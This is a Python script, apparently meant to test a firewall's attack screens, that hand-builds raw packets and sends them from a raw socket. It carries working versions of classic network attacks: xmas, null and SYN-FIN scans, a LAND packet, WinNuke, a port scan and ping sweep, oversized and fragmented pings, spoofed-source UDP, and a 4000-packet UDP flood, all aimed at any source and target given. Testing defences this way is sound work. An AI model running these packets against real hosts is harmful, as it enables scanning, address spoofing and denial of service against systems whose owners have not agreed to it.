"""Packets that a screen is there for, from a raw socket: attack.py KIND SOURCE TARGET.

KIND is one of the names in ATTACKS. The kernel makes the IP header's checksum; everything else is as it is written here.
"""
import socket
import struct
import sys

FIN, SYN, PUSH, ACK, URGENT = 1, 2, 8, 16, 32
TCP, UDP, ICMP, UNASSIGNED = 6, 17, 1, 200
FLOOD = 4000


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packed(address):
    return socket.inet_aton(address)


def ip(source, target, protocol, payload, options=b"", fragment=0):
    header = struct.pack(">BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 77, fragment, 64, protocol, 0,
                         packed(source), packed(target))
    return header + options + payload


def tcp(source, target, port, flags, own=40000):
    """In an IP packet."""
    segment = struct.pack(">HHIIBBHHH", own, port, 1, 0, 0x50, flags, 8192, 0, 1 if flags & URGENT else 0)
    pseudo = packed(source) + packed(target) + struct.pack(">BBH", 0, TCP, len(segment))
    return ip(source, target, TCP, segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:])


def echo(source, target, octets=8, options=b"", fragment=0, number=1):
    message = struct.pack(">BBHHH", 8, 0, 0, 99, number) + b"\0" * octets
    return ip(source, target, ICMP, message[:2] + struct.pack(">H", checksum(message)) + message[4:], options, fragment)


def udp(source, target, port=9):
    return ip(source, target, UDP, struct.pack(">HHHH", 40000, port, 8 + 8, 0) + b"\0" * 8)


def others(target, count):
    """Addresses after the target."""
    number, = struct.unpack(">I", packed(target))
    return [socket.inet_ntoa(struct.pack(">I", number + place)) for place in range(count)]


ATTACKS = {
    "xmas": lambda s, t: [tcp(s, t, port, FIN | PUSH | URGENT) for port in (80, 81, 82)],
    "null": lambda s, t: [tcp(s, t, port, 0) for port in (80, 81, 82)],
    "syn-fin": lambda s, t: [tcp(s, t, 80, SYN | FIN)],
    "land": lambda s, t: [tcp(t, t, 80, SYN, 80)],
    "winnuke": lambda s, t: [tcp(s, t, 139, ACK | URGENT)],
    "scan": lambda s, t: [tcp(s, t, 1000 + port, SYN) for port in range(40)],
    "sweep": lambda s, t: [echo(s, one) for one in others(t, 40)],
    "large": lambda s, t: [echo(s, t, 1100)],
    "fragment": lambda s, t: [echo(s, t, 16, fragment=0x2000)],
    "record-route": lambda s, t: [echo(s, t, options=bytes((7, 7, 4, 0, 0, 0, 0, 0)))],
    "protocol": lambda s, t: [ip(s, t, UNASSIGNED, b"\0" * 8)],
    "spoofed": lambda s, t: [udp(s, t)],
    "udp-flood": lambda s, t: [udp(s, t)] * FLOOD,
}


def main():
    kind, source, target = sys.argv[1:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for packet in ATTACKS[kind](source, target):
            raw.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))


if __name__ == "__main__":
    main()
